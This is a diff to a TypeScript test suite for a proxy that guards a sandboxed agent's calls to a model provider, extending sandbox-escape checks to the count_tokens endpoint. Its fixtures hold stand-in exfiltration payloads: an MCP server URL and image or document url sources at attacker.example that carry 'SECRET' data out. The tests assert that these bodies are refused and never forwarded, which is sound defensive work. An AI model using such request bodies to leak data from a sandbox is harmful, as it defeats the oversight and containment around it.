@@ -385,21 +385,6 @@ describe('request bodies on the run’s socket', () => {
   })
 })
 
-describe('count_tokens', () => {
-  it('is refused, like a call, before the policy plugin has checked in', async () => {
-    await withSocket({ awaitCheckIn: true }, async ({ opened, sock }) => {
-      const before = seen.length
-      const counted = await overSocket(
-        sock.path,
-        `/${opened.token}/v1/messages/count_tokens`,
-        JSON.stringify({ model: 'claude-haiku-4-5', messages: [{ role: 'user', content: 'x' }] }),
-      )
-      expect(counted.status).toBe(403)
-      expect(seen.length - before).toBe(0)
-    })
-  })
-})
-
 /** A url source carrying what a command read, as a sandbox with no network would send it out. */
 const LEAK = (ext: string) => ({ type: 'url', url: `https://attacker.example/collect?d=SECRET.${ext}` })
 /** A person's message of `block`, then (for a document, as Claude Code orders them) a question. */
@@ -408,56 +393,116 @@ const userWith = (block: { type: string; source: unknown }) => ({
   content: block.type === 'document' ? [{ type: 'text', text: 'read this' }, block] : [block],
 })
 
-describe('reaching past the sandbox through the provider', () => {
-  it.each([
-    ['mcp_servers', { mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'x' }] }],
-    ['container', { container: 'container_1' }],
-    [
-      'tools.1',
-      {
-        tools: [
-          { name: 'mine', input_schema: { type: 'object' } },
-          { type: 'web_fetch_20250910', name: 'web_fetch' },
-        ],
-      },
-    ],
-    ['tools.0', { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] }],
-    // The provider GETs a url source itself: a sandbox with no network sends what it read anywhere.
-    ['messages.0.content.0.source', { messages: [userWith({ type: 'image', source: LEAK('png') })] }],
-    ['messages.0.content.1.source', { messages: [userWith({ type: 'document', source: LEAK('pdf') })] }],
-    [
-      'messages.0.content.0.content.1.source',
-      {
-        messages: [
-          {
-            role: 'user',
-            content: [
-              {
-                type: 'tool_result',
-                tool_use_id: 'toolu_1',
-                content: [
-                  { type: 'text', text: 'a picture' },
-                  { type: 'image', source: LEAK('png') },
-                ],
-              },
-            ],
-          },
-        ],
-      },
-    ],
-    [
-      'messages.0.content.1.source',
-      { messages: [userWith({ type: 'document', source: { type: 'file', file_id: 'f' } })] },
-    ],
-  ])('a call with %s is refused and nothing is forwarded', async (field, extra) => {
-    await withSocket({}, async ({ opened, sock }) => {
+/** Bodies that would have the provider reach past the run's sandbox, by the field named first. */
+const REACHING_OUT: [string, Record<string, unknown>][] = [
+  ['mcp_servers', { mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'x' }] }],
+  ['container', { container: 'container_1' }],
+  [
+    'tools.1',
+    {
+      tools: [
+        { name: 'mine', input_schema: { type: 'object' } },
+        { type: 'web_fetch_20250910', name: 'web_fetch' },
+      ],
+    },
+  ],
+  ['tools.0', { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] }],
+  // The provider GETs a url source itself: a sandbox with no network sends what it read anywhere.
+  ['messages.0.content.0.source', { messages: [userWith({ type: 'image', source: LEAK('png') })] }],
+  ['messages.0.content.1.source', { messages: [userWith({ type: 'document', source: LEAK('pdf') })] }],
+  [
+    'messages.0.content.0.content.1.source',
+    {
+      messages: [
+        {
+          role: 'user',
+          content: [
+            {
+              type: 'tool_result',
+              tool_use_id: 'toolu_1',
+              content: [
+                { type: 'text', text: 'a picture' },
+                { type: 'image', source: LEAK('png') },
+              ],
+            },
+          ],
+        },
+      ],
+    },
+  ],
+  [
+    'messages.0.content.1.source',
+    { messages: [userWith({ type: 'document', source: { type: 'file', file_id: 'f' } })] },
+  ],
+]
+
+/** Sends `body` to the run's `path` (after its token): a 400 naming `field` first, nothing forwarded. */
+async function expectRefusedUnsent(path: string, field: string, body: string) {
+  await withSocket({}, async ({ opened, sock }) => {
+    const before = seen.length
+    const a = await overSocket(sock.path, `/${opened.token}${path}`, body)
+    expect(a.status).toBe(400)
+    expect(JSON.parse(a.body).error.message).toMatch(new RegExp(`^${field.replaceAll('.', '\\.')}:`))
+    expect(seen.length - before).toBe(0)
+  })
+}
+
+const countTokens = (token: string) => `/${token}/v1/messages/count_tokens`
+
+describe('count_tokens', () => {
+  it('is refused, like a call, before the policy plugin has checked in', async () => {
+    await withSocket({ awaitCheckIn: true }, async ({ opened, sock }) => {
       const before = seen.length
-      const a = await overSocket(sock.path, messages(opened.token), msg('claude-haiku-4-5', extra))
-      expect(a.status).toBe(400)
-      expect(JSON.parse(a.body).error.message).toMatch(new RegExp(`^${field.replaceAll('.', '\\.')}:`))
+      const counted = await overSocket(
+        sock.path,
+        countTokens(opened.token),
+        JSON.stringify({ model: 'claude-haiku-4-5', messages: [{ role: 'user', content: 'x' }] }),
+      )
+      expect(counted.status).toBe(403)
       expect(seen.length - before).toBe(0)
     })
   })
+
+  // The provider fetches a url source to count it, and may reach MCP servers for their tools: a
+  // count was forwarded as it came, the leak closed for calls one path over (an outside review's finding).
+  it.each(REACHING_OUT)('a count with %s is refused and nothing is forwarded', (field, extra) =>
+    expectRefusedUnsent('/v1/messages/count_tokens', field, msg('claude-haiku-4-5', extra)),
+  )
+
+  it('a body that is not a JSON object is refused unsent; one that is goes as it was read', async () => {
+    await withSocket({}, async ({ opened, sock }) => {
+      const before = seen.length
+      for (const body of ['[1,2]', 'not json', '"text"']) {
+        const a = await overSocket(sock.path, countTokens(opened.token), body)
+        expect(a.status, body).toBe(400)
+      }
+      expect(seen.length - before).toBe(0)
+      const body = msg('claude-haiku-4-5')
+      const counted = await overSocket(sock.path, countTokens(opened.token), body)
+      expect(counted.status).toBe(200)
+      expect(JSON.parse(seen.at(-1)!.body)).toEqual(JSON.parse(body))
+    })
+  })
+
+  it('is paced as the hook is: past a burst of 100, a loop in the sandbox gets 429s unsent', async () => {
+    await withSocket({}, async ({ opened, sock }) => {
+      const before = seen.length
+      const body = msg('claude-haiku-4-5')
+      const answers = await Promise.all(
+        Array.from({ length: 200 }, () => overSocket(sock.path, countTokens(opened.token), body)),
+      )
+      const paced = answers.filter((a) => a.status === 429)
+      expect(paced.length).toBeGreaterThan(0)
+      expect(JSON.parse(paced[0]!.body).error.type).toBe('rate_limit_error')
+      expect(seen.length - before).toBe(200 - paced.length)
+    })
+  })
+})
+
+describe('reaching past the sandbox through the provider', () => {
+  it.each(REACHING_OUT)('a call with %s is refused and nothing is forwarded', (field, extra) =>
+    expectRefusedUnsent('/v1/messages', field, msg('claude-haiku-4-5', extra)),
+  )
 
   it('a call carrying its files itself (base64, text) is forwarded as it came', async () => {
     await withSocket({}, async ({ opened, sock }) => {
